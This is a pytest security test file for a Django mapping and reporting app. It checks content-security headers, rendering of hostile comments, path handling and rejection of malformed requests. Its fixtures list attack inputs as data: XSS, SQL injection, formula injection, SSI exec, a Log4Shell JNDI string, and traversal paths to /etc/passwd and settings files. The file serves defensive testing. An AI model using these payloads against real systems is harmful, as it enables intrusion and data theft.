"""What a stranger can reach: strict policy, nothing inline, hostile text stays text, odd paths lead nowhere."""

import json
from collections.abc import Callable
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from django.db import connection
from django.test import Client

from amberapp.models import AuditEntry, User
from labeling.models import Report
from labeling.releases.publish import publish_release
from labeling.releases.reader import places_of
from tests.published import approve_all, found_on

pytestmark = pytest.mark.django_db

SCRIPT = '"><script>alert(1)</script><img src=x onerror=alert(2)>{{7*7}}{% debug %}${7*7}'
TEXTS = [
    SCRIPT,
    "'; DROP TABLE labeling_report; --",
    "1 OR 1=1 UNION SELECT password FROM amberapp_user",
    "</script><svg onload=alert(1)>",
    "javascript:alert(1)",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "=cmd|'/c calc'!A1",
    "../../../../etc/passwd",
    "\u202etxt.exe\u2066",
    "Ｚ̸̡̛͉̞a̴l̷g̶o" * 40,
    "😀" * 2000,
    "a\u0300" * 1000,
    '{"$where": "sleep(1000)"}',
    "<!--#exec cmd='id'-->",
    "${jndi:ldap://x.example/a}",
]


class Inline(HTMLParser):
    """Whatever a strict policy would have to refuse: scripts and styles in the page itself."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = dict(attrs)
        if tag == "script" and "src" not in values and values.get("type") != "application/json":
            self.found.append("script")
        if tag in ("style", "object", "embed", "iframe", "base"):
            self.found.append(tag)
        for name, value in attrs:
            if name.startswith("on") or name in ("style", "srcdoc"):
                self.found.append(f"{tag} {name}")
            if name in ("href", "src", "action") and (value or "").strip().lower().startswith(
                ("javascript:", "data:text")
            ):
                self.found.append(f"{tag} {name}={value}")


@pytest.fixture
def release(region: Any, make_tile: Callable[..., Any], bob: Any, carol: Any) -> Any:
    region.name = SCRIPT[:100]
    region.save()
    run = found_on(region, [make_tile(seed) for seed in range(2)])
    approve_all(run, bob)
    return publish_release(run=run, acting_user=carol)


def send(release: Any, **fields: Any) -> Any:
    body = {"release": release.pk, "latitude": 51.5, "longitude": 26.5, "category": "missed", **fields}
    client = Client(raise_request_exception=False)
    return client.post("/api/reports/", body, content_type="application/json")


def inline_of(answer: Any) -> list[str]:
    parser = Inline()
    parser.feed(answer.content.decode())
    return parser.found


def test_no_public_page_has_anything_inline_and_all_have_the_strict_policy(release: Any) -> None:
    status = send(release, comment=SCRIPT).json()["status_url"]
    place = places_of(release)[0].place
    pages = [
        *("/", "/map/testshire/1/", "/map/testshire/1/list/", f"/map/testshire/1/place/{place}/"),
        *("/releases/", "/report/", f"/report/?region=testshire&number=1&place={place}", status),
        *("/how-to-tell/", "/about/", "/account/login/", "/account/signup/", "/api/docs/"),
        *("/nothing/", "/report/nobody/", f"/map/testshire/1/list/?year={SCRIPT}", "/map/testshire/99/"),
    ]
    for address in pages:
        answer = Client().get(address)
        policy = dict(
            part.strip().partition(" ")[::2]
            for part in answer["Content-Security-Policy"].split(";")
            if part.strip()
        )
        assert (policy["script-src"], policy["style-src"], policy["object-src"]) == (
            "'self'",
            "'self'",
            "'none'",
        )
        assert (policy["default-src"], policy["base-uri"], policy["frame-ancestors"]) == (
            "'self'",
            "'self'",
            "'none'",
        )
        assert "unsafe" not in answer["Content-Security-Policy"], address
        assert inline_of(answer) == [], address
        assert answer["X-Content-Type-Options"] == "nosniff"


def test_hostile_words_stay_words_wherever_they_are_shown(
    release: Any, bob: Any, client_of: Callable[[Any], Client], settings: Any
) -> None:
    settings.AMBER = {**settings.AMBER, "AMBER_REPORTS_PER_HOUR": 1000}
    people, expert = User.objects.count(), client_of(bob)
    for number, text in enumerate(TEXTS):
        answer = send(release, comment=text, latitude=51.1 + number / 30)
        assert answer.status_code == 201, text
        report = Report.objects.order_by("pk").last()
        assert "<script" not in report.comment or report.comment == text
        pages = [
            Client().get(answer.json()["status_url"]),
            expert.get(f"/review/reports/{report.pk}/"),
            expert.get("/review/reports/"),
        ]
        for page in pages:
            assert page.status_code == 200
            assert inline_of(page) == []
            assert "alert(2)>" not in page.content.decode()
            assert ">49<" not in page.content.decode()
    assert Report.objects.count() == len(TEXTS)
    assert User.objects.count() == people
    assert "labeling_report" in connection.introspection.table_names()


def test_bytes_that_are_no_text_are_refused_or_replaced(release: Any) -> None:
    client = Client(raise_request_exception=False)
    overlong = [
        b"\xc0\xaf..\xc0\xaf",
        b"\xed\xa0\x80",
        b"\xf8\x88\x80\x80\x80",
        b"\xff\xfe",
        b"\x00",
        b"\x1b[2J",
    ]
    for bad in overlong:
        body = b'{"release": %d, "latitude": 51.5, "longitude": 26.5, "category": "missed", "comment": "%s"}'
        answer = client.post("/api/reports/", body % (release.pk, bad), content_type="application/json")
        assert answer.status_code in (201, 400), bad
        form = b"latitude=51.5&longitude=26.5&category=missed&comment=" + b"".join(
            b"%%%02x" % byte for byte in bad
        )
        answer = client.post("/report/", form, content_type="application/x-www-form-urlencoded")
        assert answer.status_code in (302, 400), bad
    for report in Report.objects.all():
        assert not set(report.comment) & {"\0", "\x1b", "\ud800"}
        report.comment.encode()


PATHS = [
    "/releases/testshire/1/..%2f..%2f..%2famber.sqlite3",
    "/releases/testshire/1/....//....//etc/passwd",
    "/releases/testshire/1/%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "/releases/testshire/1/%c0%ae%c0%ae%c0%afetc%c0%afpasswd",
    "/releases/testshire/1/places.csv%00.png",
    "/releases/..%2f..%2f/1/places.csv",
    "/static/../amberapp/settings.py",
    "/static/%2e%2e/amberapp/settings.py",
    "/static/..%5c..%5camberapp/settings.py",
    "/map/testshire/1/place/..%2f..%2fx/image.webp",
    "/report/..%2f..%2fadmin/",
    "/report/%00/",
    "/%00",
    "/%ff%fe",
    "/" + "a" * 8000,
]


def test_odd_paths_lead_nowhere(release: Any) -> None:
    for path in PATHS:
        answer = Client(raise_request_exception=False).get(path)
        assert answer.status_code in (301, 302, 400, 404), path
        if answer.status_code in (301, 302):
            assert not answer["Location"].startswith(("//", "http")), answer["Location"]
        else:
            assert b"SECRET_KEY" not in answer.content


def test_nesting_size_and_kinds_beyond_reason_are_refused_and_leave_nothing(release: Any, home: Path) -> None:
    client = Client(raise_request_exception=False)
    rows = AuditEntry.objects.count()
    deep = "[" * 4000 + "]" * 4000
    bodies: list[Any] = [
        deep.encode(),
        b'{"comment": ' + deep.encode() + b"}",
        json.dumps({f"field{number}": 1 for number in range(50_000)}).encode(),
        json.dumps(
            {"release": release.pk, "latitude": 51, "longitude": 26, "category": ["missed"] * 1000}
        ).encode(),
        b'{"comment": "' + b"x" * 6_000_000 + b'"}',
        b'{"release": 1e308, "latitude": 1e-400, "longitude": -0.0, "category": true}',
        b'{"release": "1", "release": 2, "__proto__": {"a": 1}, "constructor": null}',
    ]
    for body in bodies:
        answer = client.post("/api/reports/", body, content_type="application/json")
        assert 400 <= answer.status_code < 500
        assert set(answer.json()["error"]) == {"code", "message", "fields"}
    many = b"&".join(b"a%d=1" % number for number in range(5000))
    assert client.post("/report/", many, content_type="application/x-www-form-urlencoded").status_code == 400
    parts = b"".join(
        b'--cut\r\nContent-Disposition: form-data; name="f%d"; filename="f"\r\n\r\nx\r\n' % number
        for number in range(500)
    )
    for address in ("/report/", "/api/reports/"):
        answer = client.post(
            address, parts + b"--cut--\r\n", content_type="multipart/form-data; boundary=cut"
        )
        assert answer.status_code == 400
    for kind in (
        "multipart/form-data",
        "multipart/form-data; boundary=",
        "multipart/form-data; boundary=" + "x" * 500,
    ):
        assert 400 <= client.post("/api/reports/", b"--x\r\n\r\n", content_type=kind).status_code < 500
    assert not Report.objects.exists()
    assert AuditEntry.objects.count() == rows
    assert not (home / "storage" / "reports").exists()
